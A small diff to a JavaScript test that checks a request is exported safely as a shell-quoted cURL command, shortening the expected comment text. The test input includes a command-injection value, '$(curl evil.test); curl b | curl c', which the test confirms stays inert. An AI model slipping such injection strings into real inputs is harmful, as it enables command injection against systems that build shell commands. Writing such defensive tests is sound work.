@@ -113,7 +113,7 @@ describe('a hit as a cURL command', () => {
       }),
     );
     expect(command.split('\n')[0]).toBe(
-      ": 'The browser did not show the body, so it is missing: a '\\''Blob'\\'' $(curl evil.test); curl b | curl c'",
+      ": 'The body is missing: a '\\''Blob'\\'' $(curl evil.test); curl b | curl c'",
     );
     expect(run([command]).map(({ args }) => args.slice(2))).toEqual([['-X', 'POST']]);
     expect(
